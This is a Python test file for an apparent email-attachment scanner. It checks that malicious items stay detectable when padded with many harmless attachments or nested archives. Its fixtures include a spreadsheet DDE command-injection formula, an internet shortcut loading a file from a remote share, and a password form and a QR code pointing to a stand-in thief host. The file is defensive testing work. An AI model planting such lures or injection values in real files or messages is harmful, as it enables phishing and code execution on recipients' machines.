"""Harmless things in front hide nothing behind them: neither in an archive nor among many attachments."""

import email.policy
import io
import zipfile
from collections.abc import Sequence
from email.message import EmailMessage

import pytest
import segno
from PIL import Image

from mailwarden.analysis.analyzer import PER_KIND, limit_each_kind
from mailwarden.model.evidence import Finding
from mailwarden.pipeline.worker_steps import Job, run_steps

PROGRAM = b"MZ" + bytes(200)
LEADING = b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/run.exe\r\n"


def packed(files: Sequence[tuple[str, bytes]]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, content in files:
            archive.writestr(name, content)
    return made.getvalue()


def code(text: str, *, scale: int) -> bytes:
    made = io.BytesIO()
    segno.make(text, micro=False).save(made, kind="png", scale=scale)
    return made.getvalue()


def found(files: Sequence[tuple[str, bytes]]) -> set[str]:
    message = EmailMessage()
    message["From"], message["Subject"] = "ada@north.example", "papers"
    message.set_content("Here are the papers that we spoke of on Thursday.")
    for name, content in files:
        message.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    frames = run_steps(Job(message.as_bytes(policy=email.policy.SMTP)))
    return {finding.name for frame in frames for finding in frame.report.findings}


def test_archives_in_an_archive_hide_no_program():
    inner = packed([("note.txt", b"hello")])
    many = [(f"{number}.zip", inner) for number in range(30)]
    assert "attachments.executable-in-archive" in found([("all.zip", packed([*many, ("plan.exe", PROGRAM)]))])


def test_shortcuts_that_greet_a_server_hide_none_that_loads_from_one():
    greeting = b"[InternetShortcut]\r\nURL=https://www.example/\r\nIconFile=\\\\198.51.100.7\\share\\a.ico\r\n"
    many = [(f"{number}.url", greeting) for number in range(20)]
    assert found(many) >= {"shortcuts.remote-icon"}
    assert found([*many, ("last.url", LEADING)]) >= {"shortcuts.remote-icon", "shortcuts.remote-file"}


def test_tables_that_reach_out_hide_no_command():
    tables = [(f"{number}.csv", b'a,b\r\n=WEBSERVICE("https://www.example/"),1\r\n') for number in range(40)]
    assert "office.dde" in found([*tables, ("last.csv", b"a,b\r\n=cmd|'/c calc'!A0,1\r\n")])


def test_pages_in_front_hide_none_behind_them():
    pages = [(f"{number}.html", b"<html><body><p>Minutes of Thursday</p></body></html>") for number in range(60)]
    form = ("last.html", b"<html><form action='https://thief.example/'><input type=password name=p></form></html>")
    assert "html.credential-form" in found([*pages, form])
    assert "structure.limit" not in found([*pages, form])
    assert "html.credential-form" in found([("pages.zip", packed([*pages, form]))])


def test_photographs_and_codes_in_front_hide_no_code_behind_them():
    def drawn(what: Image.Image) -> bytes:
        made = io.BytesIO()
        what.save(made, "PNG")
        return made.getvalue()

    photographs = [(f"{each}.png", drawn(Image.effect_noise((200, 200), 50 + each))) for each in range(12)]
    codes = [(f"own{each}.png", code(f"https://www.north.example/{each}", scale=9)) for each in range(8)]
    last = ("last.png", code("https://thief.example/verify", scale=3))
    assert "images.qr-unrelated-domain" not in found([*photographs, *codes])
    assert "images.qr-unrelated-domain" in found([*photographs, last])
    assert "images.qr-unrelated-domain" in found([*codes, last])
    assert "images.qr-unrelated-domain" in found([*[photographs[0]] * 60, last]), "the same picture counts once"


@pytest.mark.parametrize("number", [1, 4, 5, 100])
def test_findings_per_kind_are_bounded(number: int):
    findings = [Finding("tested.a")] * number + [Finding("tested.b")]
    reported = [each.name for each in limit_each_kind(findings) if isinstance(each, Finding)]
    assert reported.count("tested.a") == min(number, PER_KIND)
    assert reported[-1] == "tested.b"
